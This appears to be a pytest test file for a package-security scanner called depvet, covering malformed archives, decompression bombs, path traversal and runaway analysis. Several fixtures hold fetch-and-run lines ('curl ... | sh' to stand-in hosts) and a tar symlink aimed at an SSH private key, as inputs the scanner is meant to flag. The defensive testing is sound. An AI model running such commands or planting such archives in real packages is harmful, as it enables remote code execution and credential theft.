"""Bad input never crashes, hangs or comes out silently clean: an error result or a finding."""

from __future__ import annotations

import io
import os
import signal
import tarfile
import time
import zipfile
from pathlib import Path

import pytest
from demo.builders import sdist_bytes, wheel_bytes, write_sdist, write_wheel

from depvet.analysis.detector import Detector, PyContext
from depvet.analysis.engine import Ruleset, scan_artifact
from depvet.artifacts.limits import Limits
from depvet.artifacts.targets import expand_target
from depvet.cli import main
from depvet.model import ScanResult, Verdict
from tests.conftest import rule_ids


def scan_path(path: Path, ruleset: Ruleset) -> ScanResult:
    (ref,) = expand_target(str(path))
    return scan_artifact(ref, ruleset)


def zip_with(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_truncated_wheel_is_an_error_with_a_reason(tmp_path: Path, ruleset: Ruleset) -> None:
    good = wheel_bytes("pkg", "1.0", {"pkg/__init__.py": "x = 1\n" * 2000})
    path = tmp_path / "pkg-1.0-py3-none-any.whl"
    path.write_bytes(good[: len(good) // 2])
    result = scan_path(path, ruleset)
    assert result.verdict is Verdict.ERROR
    assert result.error is not None
    assert "zip" in result.error


def test_truncated_sdist_is_an_error(tmp_path: Path, ruleset: Ruleset) -> None:
    good = sdist_bytes("pkg", "1.0", {"pkg/__init__.py": "import os\n" * 5000})
    path = tmp_path / "pkg-1.0.tar.gz"
    path.write_bytes(good[: len(good) // 2])
    result = scan_path(path, ruleset)
    assert result.verdict is Verdict.ERROR
    assert "truncated" in (result.error or "") or "corrupt" in (result.error or "")


def test_zip_bomb_member_is_an_error_not_a_hang(tmp_path: Path, ruleset: Ruleset) -> None:
    path = tmp_path / "bomb-1.0-py3-none-any.whl"
    path.write_bytes(zip_with({"bomb/__init__.py": b"\0" * (80 * 1024 * 1024)}))
    started = time.monotonic()
    result = scan_path(path, ruleset)
    assert time.monotonic() - started < 10
    assert result.verdict is Verdict.ERROR
    assert "decompression bomb" in (result.error or "")


def test_gzip_bomb_sdist_is_an_error(tmp_path: Path, ruleset: Ruleset) -> None:
    path = tmp_path / "bomb-1.0.tar.gz"
    path.write_bytes(sdist_bytes("bomb", "1.0", {"bomb/data.txt": b"\0" * (80 * 1024 * 1024)}))
    result = scan_path(path, ruleset)
    assert result.verdict is Verdict.ERROR
    assert "decompression bomb" in (result.error or "")


def test_an_sdist_past_the_total_budget_is_an_error_at_the_budget(tmp_path: Path, ruleset: Ruleset) -> None:
    # Incompressible bytes: the ratio says nothing, the total budget stops it.
    path = tmp_path / "big-1.0.tar.gz"
    path.write_bytes(sdist_bytes("big", "1.0", {"big/blob.bin": os.urandom(3 * 1024 * 1024)}))
    (ref,) = expand_target(str(path))
    result = scan_artifact(ref, ruleset, Limits(max_total_bytes=2 * 1024 * 1024))
    assert result.verdict is Verdict.ERROR
    assert "archive expands to more than 2 MiB" in (result.error or "")
    assert scan_artifact(ref, ruleset, Limits(max_total_bytes=4 * 1024 * 1024)).verdict is not Verdict.ERROR


def test_bomb_nested_inside_a_package_is_reported_and_the_rest_scanned(
    tmp_path: Path, ruleset: Ruleset
) -> None:
    inner = zip_with({"zeros.bin": b"\0" * (80 * 1024 * 1024)})
    files: dict[str, str | bytes] = {
        "pkg/__init__.py": "import os\nos.system('curl -s https://example.invalid/x | sh')\n",
        "pkg/fixtures.zip": inner,
    }
    result = scan_path(write_sdist(tmp_path, "pkg", "1.0", files), ruleset)
    assert result.verdict is not Verdict.ERROR
    assert "DV807" in rule_ids(result)
    assert "DV106" in rule_ids(result)


def test_archives_nested_too_deep_are_reported(tmp_path: Path, ruleset: Ruleset) -> None:
    blob = zip_with({"deep.py": b"x = 1\n"})
    for _ in range(7):
        blob = zip_with({"inner.zip": blob})
    result = scan_path(
        write_sdist(tmp_path, "pkg", "1.0", {"pkg/__init__.py": "", "pkg/n.zip": blob}), ruleset
    )
    assert result.verdict is not Verdict.ERROR
    assert any(f.rule_id == "DV807" and "nested" in f.evidence for f in result.findings)


def test_tar_with_traversal_and_symlinks_is_scanned_and_reported(tmp_path: Path, ruleset: Ruleset) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in {
            "pkg-1.0/pkg/__init__.py": b"x = 1\n",
            "pkg-1.0/../../escape.py": b"y = 2\n",
        }.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("pkg-1.0/pkg/secrets")
        link.type, link.linkname = tarfile.SYMTYPE, "/home/user/.ssh/id_rsa"
        archive.addfile(link)
        inside = tarfile.TarInfo("pkg-1.0/pkg/alias.py")
        inside.type, inside.linkname = tarfile.SYMTYPE, "__init__.py"
        archive.addfile(inside)
    path = tmp_path / "pkg-1.0.tar.gz"
    path.write_bytes(buffer.getvalue())
    result = scan_path(path, ruleset)
    assert result.verdict is not Verdict.ERROR
    escapes = {f.path for f in result.findings if f.rule_id == "DV806"}
    assert escapes == {"pkg-1.0/../../escape.py", "pkg-1.0/pkg/secrets"}
    assert any(f.rule_id == "DV805" and f.path == "pkg-1.0/pkg/alias.py" for f in result.findings)
    assert result.files_scanned == 2  # the escaping member is read as data, never written anywhere
    assert not (tmp_path.parent / "escape.py").exists()


def test_symlink_in_a_directory_target_is_not_followed(tmp_path: Path, ruleset: Ruleset) -> None:
    secret = tmp_path / "outside.py"
    secret.write_text("import os\nos.system('id')\n")
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "__init__.py").write_text("x = 1\n")
    (package / "link.py").symlink_to(secret)
    result = scan_path(package, ruleset)
    assert any(f.rule_id in ("DV805", "DV806") and f.path == "link.py" for f in result.findings)
    assert "DV106" not in rule_ids(result)


@pytest.mark.parametrize(
    ("filename", "content", "message"),
    [
        ("empty-1.0.tar.gz", b"", "empty file"),
        ("empty-1.0-py3-none-any.whl", zip_with({}), "empty archive"),
        ("notes-1.0.tar.gz", b"this is not an archive at all\n", "not a readable archive"),
    ],
)
def test_empty_and_unrecognised_archives_are_errors(
    tmp_path: Path, ruleset: Ruleset, filename: str, content: bytes, message: str
) -> None:
    path = tmp_path / filename
    path.write_bytes(content)
    result = scan_path(path, ruleset)
    assert result.verdict is Verdict.ERROR
    assert message in (result.error or "")


def test_fifty_megabyte_file_gives_a_result_quickly(tmp_path: Path, ruleset: Ruleset) -> None:
    line = "value = compute(alpha, beta) + transform(gamma)  # padding padding padding\n"
    big = line * (50 * 1024 * 1024 // len(line))
    files = {"pkg/__init__.py": "", "pkg/generated.py": big + "import os\nos.system('id')\n"}
    started = time.monotonic()
    result = scan_path(write_sdist(tmp_path, "pkg", "1.0", files), ruleset)
    assert time.monotonic() - started < 30
    assert result.verdict is not Verdict.ERROR
    assert any(f.rule_id == "DV001" and f.path.endswith("generated.py") for f in result.findings)


def test_binary_file_named_py_is_reported_not_parsed(tmp_path: Path, ruleset: Ruleset) -> None:
    files: dict[str, str | bytes] = {"pkg/__init__.py": "", "pkg/core.py": bytes(range(256)) * 64}
    result = scan_path(write_wheel(tmp_path, "pkg", "1.0", files), ruleset)
    assert result.verdict is not Verdict.ERROR
    assert any(f.rule_id == "DV001" and f.path == "pkg/core.py" for f in result.findings)


def test_non_utf8_source_is_decoded_tolerantly(tmp_path: Path, ruleset: Ruleset) -> None:
    source = (
        "# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\nimport os\nos.system('curl https://x.invalid | sh')\n"
    )
    files: dict[str, str | bytes] = {"pkg/__init__.py": source.encode("latin-1")}
    result = scan_path(write_wheel(tmp_path, "pkg", "1.0", files), ruleset)
    assert "DV106" in rule_ids(result)


def test_cli_reports_a_bad_archive_in_one_line_and_exits_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "broken-1.0-py3-none-any.whl"
    bad.write_bytes(b"PK\x03\x04 garbage")
    good = write_wheel(tmp_path, "fine", "1.0", {"fine/__init__.py": "x = 1\n"})
    code = main(["scan", str(bad), str(good), "--format", "json", "-q"])
    captured = capsys.readouterr()
    assert code == 2
    assert "Traceback" not in captured.err
    errors = [line for line in captured.err.splitlines() if line]
    assert len(errors) == 1
    assert errors[0].startswith("depvet: error: ")
    assert "broken-1.0" in errors[0]
    assert '"verdict": "error"' in captured.out
    assert '"verdict": "clean"' in captured.out


def test_missing_target_is_an_error_result_and_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["scan", str(tmp_path / "nope.whl"), "-q"])
    captured = capsys.readouterr()
    assert code == 2
    assert "no such file or directory" in captured.err


class _Runaway(Detector):
    """A detector stuck in a loop that never checks the clock, like a pathological resolver."""

    rules = ()

    def on_module(self, ctx: PyContext) -> None:
        while True:
            pass


def test_a_runaway_analysis_is_stopped_and_reported(
    tmp_path: Path, ruleset: Ruleset, monkeypatch: pytest.MonkeyPatch
) -> None:
    import depvet.analysis.engine as engine

    monkeypatch.setattr(engine, "FILE_SECONDS", 0.2)
    stuck = Ruleset([*ruleset.detectors, _Runaway()])
    wheel = write_wheel(tmp_path, "pkg", "1.0", {"pkg/__init__.py": "import os\nos.system(cmd)\n"})
    handler = signal.getsignal(signal.SIGALRM)
    started = time.monotonic()
    result = scan_path(wheel, stuck)
    assert time.monotonic() - started < 5
    assert signal.getsignal(signal.SIGALRM) is handler  # the scan's own handler is gone again
    assert result.verdict is not Verdict.CLEAN
    incomplete = [f for f in result.findings if f.rule_id == "DV001"]
    assert incomplete
    assert "stopped after" in incomplete[0].evidence


class _TooDeep(Detector):
    rules = ()

    def on_module(self, ctx: PyContext) -> None:
        raise RecursionError("maximum recursion depth exceeded")


def test_a_too_deep_analysis_of_one_file_does_not_fail_the_artifact(tmp_path: Path, ruleset: Ruleset) -> None:
    deep = Ruleset([*ruleset.detectors, _TooDeep()])
    files = {"pkg/__init__.py": "import os\nos.system(cmd)\n", "pkg/b.py": "import os\nos.system(other)\n"}
    result = scan_path(write_wheel(tmp_path, "pkg", "1.0", files), deep)
    assert result.verdict is not Verdict.ERROR
    incomplete = [f for f in result.findings if f.rule_id == "DV001"]
    assert {f.path for f in incomplete} == {"pkg/__init__.py", "pkg/b.py"}
    assert "nests too deeply" in incomplete[0].evidence
